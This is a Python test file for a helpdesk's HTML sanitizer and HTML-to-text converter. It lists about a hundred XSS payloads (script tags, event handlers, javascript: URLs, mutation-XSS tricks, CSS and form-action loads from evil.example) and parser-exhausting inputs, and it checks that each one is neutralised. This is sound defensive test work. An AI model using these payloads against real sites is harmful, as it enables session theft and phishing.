"""HTML from outside shows nothing dangerous, loads nothing, and reads well as text."""

import re
import time
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from helpdesk.lib.html import sanitize, text_to_html, to_text

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<img src=javascript:alert(1)>",
    "<img src='cid:x' onload=alert(1)>",
    "<img srcset='http://evil.example/x 1x, http://evil.example/y 2x'>",
    "<img src='cid:x\" onerror=\"alert(1)'>",
    "<img src='cid:%22%3E%3Cscript%3Ealert(1)%3C/script%3E'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<picture><source srcset='http://evil.example/x'><img src=cid:x></picture>",
    "<input type=image src=http://evil.example/x onfocus=alert(1) autofocus>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<svg><image href='http://evil.example/x'/></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<style>@import 'http://evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<p style='background:url(http://evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
    "<p style='display:\\75rl(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>phish</div>",
    "<table background='http://evil.example/x'><tr><td background='http://evil.example'>x",
    "<body background=http://evil.example/x onload=alert(1)>x",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&Tab;script&NewLine;:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:http://x/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='cid:x'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/desk/logout'>x</a>",
    "<a href='?delete=1'>x</a>",
    "<a href='\\\\evil.example\\x'>x</a>",
    "<a href='http://ok.example' target=_top ping=http://evil.example onclick=alert(1)>x</a>",
    "<a href='http://ok.example' rel=opener>x</a>",
    "<a href='http:javascript:alert(1)' onmouseover=alert(1)>x</a>",
    "<area href=javascript:alert(1)><map name=x><area href=javascript:alert(1)></map>",
    "<base href='http://evil.example/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/x>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
    "<object data='http://evil.example/x.swf'></object>",
    "<embed src='http://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<form action=http://evil.example><input name=password><button formaction=javascript:alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<video src=http://evil.example onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=http://evil.example autoplay></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<p id=csrf-token name=location class=fixed>clobbering</p>",
    "<a name=getElementById>x</a>",
    "<p is=x-desk contenteditable accesskey=x tabindex=1 hx-get=/desk/logout hx-trigger=load>x",
    "<p data-hx-get='/desk/logout' data-cid=x>x",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?xml version='1.0'?><?php echo 1 ?><x onload=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<\0script>alert(1)</script><\u017fcript>alert(1)</\u017fcript>",
    '<p title=\'<img src=" lang=">x</p>',
    "<p title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;' style='display:inline'>x</p>",
    "<b><i style='display:x'></b>&lt;script&gt;alert(1)&lt;/script&gt;</i><img src=cid:a>",
]

TAGS = """
a abbr address article b bdi blockquote br caption center cite code col colgroup dd del details dfn
div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp section
small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr
"""
ATTRIBUTES = """
href title alt width height data-cid data-src colspan rowspan align valign start dir lang target rel
"""
SAFE_TAGS = set(TAGS.split())
SAFE_ATTRIBUTES = set(ATTRIBUTES.split())


def elements(html: str) -> list[Element]:
    root = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return [element for element in root.iter() if element is not root]


def assert_harmless(html: str) -> None:
    for element in elements(html):
        assert element.tag in SAFE_TAGS, element.tag
        assert set(element.attrib) <= SAFE_ATTRIBUTES, element.attrib
        if "href" in element.attrib:
            assert re.match(r"(?:https?|mailto|tel):", element.attrib["href"], re.I)
        if "data-src" in element.attrib:
            assert re.match(r"https?:", element.attrib["data-src"], re.I)
        if element.tag == "a":
            assert element.attrib["target"] == "_blank"
            assert element.attrib["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "<p>{}</p>", "<table><td>{}", "<div><b>{}</div>", "{0}{0}"]
)
def test_no_attack_survives(attack: str, around: str) -> None:
    shown = sanitize(around.format(attack))
    assert_harmless(shown)
    assert_harmless(sanitize(shown))
    assert_harmless(text_to_html(attack))
    assert_harmless(text_to_html(to_text(around.format(attack))))


@given(st.lists(st.sampled_from([*ATTACKS, '"', "'", ">", "<", "&lt;", "</p>", "</svg>", "x"])))
@settings(deadline=None, max_examples=150)
def test_attacks_in_a_row_do_not_help_each_other(parts: list[str]) -> None:
    assert_harmless(sanitize("".join(parts)))


@given(st.text(st.sampled_from("<>/='\"&;! -ab \nimgstyle:?\0")))
@settings(deadline=None, max_examples=200)
def test_any_string_can_be_shown(s: str) -> None:
    assert_harmless(sanitize(s))
    assert_harmless(text_to_html(s))
    to_text(s)


def test_ordinary_mail_keeps_its_shape() -> None:
    assert sanitize("<p dir=rtl>a <b>b</b></p><ul><li>c</ul>") == (
        '<p dir="rtl">a <b>b</b></p><ul><li>c</li></ul>'
    )
    assert "mailto:a@b.ua" in sanitize("<a href=mailto:a@b.ua>x</a>")
    assert "tel:+380671234567" in sanitize("<a href='tel:+380 67 123 45 67'>x</a>")


def test_images_load_nothing_by_themselves() -> None:
    assert sanitize('<img src="cid:logo%40x" alt="Logo" width=10>') == (
        '<img alt="Logo" width="10" data-cid="logo@x">'
    )
    assert sanitize('<img src="https://t.example/a.png?x=1&y=2">') == (
        '<img data-src="https://t.example/a.png?x=1&amp;y=2">'
    )
    assert sanitize('<img src="https://t.example/pixel" width=1 height=1>') == ""
    assert sanitize('<img src="data:image/png;base64,AAAA" alt="chart">') == '<img alt="chart">'
    assert sanitize('<img src="x.png">') == ""


def test_what_the_sender_hid_stays_hidden() -> None:
    source = '<div style="display: none">pre<b>view</b><br></div><p hidden>x</p><p>shown</p>'
    source += '<p style="color: red; visibility:hidden">y</p>'
    assert sanitize(source) == "<p>shown</p>"
    assert to_text(source) == "shown"


def test_text_that_looks_like_mark_up_stays_text() -> None:
    assert sanitize('<p>1 &lt; 2 &amp;&amp; src="x"</p><img src=cid:a>') == (
        '<p>1 &lt; 2 &amp;&amp; src="x"</p><img data-cid="a">'
    )


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("", ""),
        ("plain &amp; simple", "plain & simple"),
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("<div>one</div><div>two<br>three</div>", "one\ntwo\nthree"),
        ("a<br><br>b", "a\n\nb"),
        ("  a \n  b&nbsp;&nbsp;c  ", "a b c"),
        ("<b>a</b> <i>b</i>c", "a bc"),
        ("<ul><li>one<li><p>two</p></ul>after", "- one\n- two\nafter"),
        ("<ol start=3><li>x<li>y<ul><li>z</ul></ol>", "3. x\n4. y\n  - z"),
        ("<table><tr><th>Товар<th>Ціна<tr><td>Чай<td> 10</table>", "Товар | Ціна\nЧай | 10"),
        ("<a href='https://x.ua/a'>here</a>", "here (https://x.ua/a)"),
        ("<a href='https://www.x.ua/'>x.ua</a>", "x.ua"),
        ("<a href='mailto:a@x.ua'>a@x.ua</a>", "a@x.ua"),
        ("<a href='mailto:a@x.ua'>write</a>", "write (a@x.ua)"),
        ("<a href='javascript:x'>no</a>", "no"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<style>p{}</style><script>x</script><title>t</title>a", "a"),
        ("<img alt='Diagram' src=cid:x>", "[Diagram]"),
        ("<p>a</p><blockquote>b<br>c</blockquote><p>d</p>", "a\n\n> b\n> c\n\nd"),
        ("<blockquote>a<blockquote>b</blockquote></blockquote>", "> a\n>\n> > b"),
        ("<p>unclosed <b>tags<p>next</i>", "unclosed tags\n\nnext"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
    ],
)
def test_html_reads_as_text(source: str, text: str) -> None:
    assert to_text(source) == text


def test_replies_of_gmail_and_outlook_are_quoted() -> None:
    gmail = (
        "<div>new</div><div class='gmail_quote gmail_quote_container'><div class=gmail_attr>On Mon "
        "A wrote:</div><blockquote class=gmail_quote>old</blockquote></div>"
    )
    assert to_text(gmail) == "new\n> On Mon A wrote:\n>\n> old"
    outlook = (
        "<div>new</div><hr><div id=divRplyFwdMsg><b>From:</b> A<br></div><div>old<p>older</p></div>"
    )
    assert to_text(outlook) == "new\n\n> From: A\n> old\n>\n> older"


def test_text_becomes_html_with_links() -> None:
    assert text_to_html("a < b\nc\n\nd") == "<p>a &lt; b<br>\nc</p>\n<p>d</p>"
    assert text_to_html("") == text_to_html("\n \n") == ""
    shown = text_to_html("see (https://x.ua/a_(b)?q=1&r=2).")
    assert 'href="https://x.ua/a_(b)?q=1&amp;r=2"' in shown and shown.endswith("</a>).</p>")
    assert "<a" not in text_to_html("javascript:alert(1) ftp://x data:text/html,x")


BOMBS = [
    "<div>",
    "<b id=1>",
    "<font>",
    "<p>",
    "<li>",
    "<td>",
    "<table>",
    "<table><td>",
    "<br>",
    "<br ",
    "</p ",
    "</div>",
    "<",
    "<a ",
    '<a x="',
    "<p x='",
    "&",
    "x&",
    "&amp; ",
    "<!--",
    "<!-- -",
    "<!-->",
    "<![CDATA[",
    "<script>",
    "<script x",
    "<title>",
    "<textarea>",
    "<svg>",
    "<math><mi>",
    "<select>",
    "<div><table></div></table>",
    "<b id=1><table></b></table>",
    "<a href=x><div>",
    "<button>",
    "<table><b>x",
    "<blockquote>x",
    "<li><ul>",
    "<pre>\n",
    "<p><b id=1></p>",
    "<i><p></i>",
    "= ",
    "https://",
    "http://a)))",
    "(",
    " ",
    "\n",
    "\n\n",
    "<a =' >",
    "<style></style>",
    "data:image/png",
    "<b><i><u>x</b></i></u>",
    "<img src=cid:x>",
    "<p style=display:none>",
    "\u0301\u0316",
]


@pytest.mark.parametrize("bomb", BOMBS)
def test_half_a_megabyte_of_anything_costs_little(bomb: str) -> None:
    source = bomb * (500_000 // len(bomb))
    for function in (sanitize, to_text, text_to_html):
        started = time.process_time()
        function(source)
        assert time.process_time() - started < 1.5


@pytest.mark.parametrize(
    "source",
    [
        "".join(f"<b id={i}>x<p>" for i in range(50_000)),
        "<a " + "".join(f"x{i}=1 " for i in range(90_000)) + ">",
        "".join(f'<b id={i}><p x=y="></b><i ">x' for i in range(20_000)),
        "".join(f"<b id={i}><p a'></b>' ''>x" for i in range(20_000)),
        "".join(f"<b id={i}><!--></b>--></b x>" for i in range(20_000)),
        "".join(f"<b id={i}><textarea></b></textarea>x<p>" for i in range(20_000)),
        "".join(f"<b id={i}><noscript></b></noscript>x<p>" for i in range(20_000)),
        "".join(f"<b id={i}><td></b></td><p>x" for i in range(20_000)),
        "".join(f"<b id={i}><caption></td><b id={i}x><hr>" for i in range(10_000)),
        "".join(f"<b id={i}></table><table><input></div>" for i in range(10_000)),
        "<div>" * 100_000 + "deep" + "</div>" * 100_000,
    ],
    ids=lambda s: s[:24],
)
def test_costly_trees_are_refused_and_still_readable(source: str) -> None:
    for function in (sanitize, to_text):
        started = time.process_time()
        function(source)
        assert time.process_time() - started < 1.5
    assert "deep" in sanitize("<div>" * 100_000 + "deep")


def test_a_long_ordinary_mail_is_not_refused() -> None:
    row = "<tr><td><p><font face=Arial><b>Товар</b> <i>опис</i></font></p></td></tr>"
    source = f"<html><head><style>{'p{}' * 999}</style></head><body><table>{row * 4000}</table>"
    assert sanitize(source).count("<tr>") == 4000
    assert to_text(source).count("Товар опис") == 4000
    unclosed = "<p><span>line<br></p>" * 3000
    assert sanitize(unclosed).count("<span>") >= 3000


def test_html_over_the_limit_is_shown_as_text() -> None:
    shown = sanitize("<p>" + "word " * 250_000 + "<b>end</b>")
    assert "<b>" not in shown and shown.startswith("<p>word")
    inline = f"<p>a<img src='data:image/png;base64,{'A' * 2_000_000}' alt=scan></p>"
    assert sanitize(inline) == '<p>a<img alt="scan"></p>'
